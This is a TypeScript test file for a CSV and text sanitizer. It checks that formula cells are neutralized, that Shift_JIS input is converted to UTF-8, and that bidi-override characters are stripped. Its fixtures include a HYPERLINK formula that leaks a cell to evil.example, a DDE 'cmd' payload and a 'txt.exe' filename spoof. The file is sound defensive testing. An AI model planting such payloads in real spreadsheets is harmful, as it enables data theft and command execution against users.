import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { DEFAULT_LIMITS } from '../types.ts';
import { isFormula } from './neutralize-formula.ts';
import { sanitizeCsv } from './sanitize-csv.ts';
import { sanitizeText } from './sanitize-text.ts';

const utf8 = (value: string) => new TextEncoder().encode(value);
const read = (bytes: Uint8Array) => new TextDecoder('utf-8', { fatal: true }).decode(bytes);
// 「氏名,備考\r\n山田,申請書\r\n」 in Shift_JIS (CP932), as Excel on Windows saves it.
const SHIFT_JIS_CSV = new Uint8Array([
  0x8e, 0x81, 0x96, 0xbc, 0x2c, 0x94, 0xf5, 0x8d, 0x6c, 0x0d, 0x0a, 0x8e, 0x52, 0x93, 0x63, 0x2c, 0x90, 0x5c,
  0x90, 0xbf, 0x8f, 0x91, 0x0d, 0x0a,
]);

describe('CSV: formula injection', () => {
  it('neutralizes every cell a spreadsheet would run, and leaves numbers alone', () => {
    const input = utf8(
      [
        '氏名,金額,メモ',
        '山田,-500,"=HYPERLINK(""http://evil.example/?""&A1,""詳細"")"',
        '"佐藤",+3.5,"=cmd|\' /C calc\'!A0"',
        '鈴木,@SUM(1+1),-2+3',
        'x,"\t=1+1", =1',
      ].join('\r\n'),
    );
    const { output, removed, mediaType } = sanitizeCsv(input, DEFAULT_LIMITS);
    expect(mediaType).toBe('text/csv; charset=utf-8');
    const rows = parse(read(output)) as string[][];
    expect(rows[1]).toEqual(['山田', '-500', `'=HYPERLINK("http://evil.example/?"&A1,"詳細")`]);
    expect(rows[2]).toEqual(['佐藤', '+3.5', `'=cmd|' /C calc'!A0`]);
    expect(rows[3]).toEqual(['鈴木', "'@SUM(1+1)", "'-2+3"]);
    expect(rows[4]).toEqual(['x', "'\t=1+1", "' =1"]);
    for (const row of rows) for (const cell of row) expect(isFormula(cell)).toBe(false);
    expect(removed).toContainEqual({ kind: 'formula', count: 6 });
  });

  it('reads Shift_JIS (CP932) and writes UTF-8 with CRLF', () => {
    const { output, actions } = sanitizeCsv(SHIFT_JIS_CSV, DEFAULT_LIMITS);
    expect(read(output)).toBe('氏名,備考\r\n山田,申請書\r\n');
    expect(actions[0]).toMatch(/SHIFT_JIS to UTF-8/);
  });

  it('keeps quoted line breaks and delimiters, and tab-separated files stay tab-separated', () => {
    const { output } = sanitizeCsv(utf8('a,b\n"1,2","改\n行"\n'), DEFAULT_LIMITS);
    expect(parse(read(output))).toEqual([
      ['a', 'b'],
      ['1,2', '改\n行'],
    ]);
    const tsv = sanitizeCsv(utf8('a\tb\n=1\t2\n'), DEFAULT_LIMITS);
    expect(tsv.mediaType).toMatch(/^text\/tab-separated-values/);
    expect(read(tsv.output)).toBe('a\tb\r\n"\'=1"\t2\r\n');
  });

  it('is lenient where spreadsheets are, and refuses a quote that never closes', () => {
    const { output } = sanitizeCsv(utf8('a,b\n12"x,"q"tail\n'), DEFAULT_LIMITS);
    expect(parse(read(output))).toEqual([
      ['a', 'b'],
      ['12"x', 'qtail'],
    ]);
    expect(() => sanitizeCsv(utf8('a,b\n"open,2\n'), DEFAULT_LIMITS)).toThrow(
      expect.objectContaining({ reason: 'malformed' }),
    );
  });

  it('refuses overlong lines and undecodable bytes, never cuts them', () => {
    const long = utf8(`a,${'x'.repeat(200)}\n`);
    expect(() => sanitizeCsv(long, { ...DEFAULT_LIMITS, maxLineLength: 100 })).toThrow(
      expect.objectContaining({ reason: 'line-too-long' }),
    );
    expect(() => sanitizeCsv(new Uint8Array([0x61, 0x2c, 0x82, 0x0a, 0xff]), DEFAULT_LIMITS)).toThrow(
      expect.objectContaining({ reason: 'encoding-unknown' }),
    );
  });
});

describe('plain text', () => {
  it('drops control and bidi-override characters and the BOM, writes UTF-8 with LF', () => {
    const input = new Uint8Array([0xef, 0xbb, 0xbf, ...utf8('申請\u202Etxt.exe\r\n2行目\u0007\r\n')]);
    const { output, removed } = sanitizeText(input, DEFAULT_LIMITS);
    expect(read(output)).toBe('申請txt.exe\n2行目\n');
    expect(removed).toEqual([{ kind: 'control-character', count: 2 }]);
  });
});
